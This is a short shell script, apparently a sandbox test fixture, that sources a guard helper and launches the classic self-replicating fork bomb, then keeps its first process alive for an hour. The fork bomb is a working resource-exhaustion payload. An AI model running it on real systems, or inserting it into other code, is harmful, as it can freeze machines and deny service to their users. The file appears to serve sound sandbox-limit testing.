#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# The classic, with its first process kept alive so that only the sandbox can end it.
. "${0%/*}/guard.sh"
exec 2>/dev/null
# shellcheck disable=SC2264 # calling itself is what a fork bomb does
bomb() {
	bomb | bomb &
}
bomb
exec sleep 3600
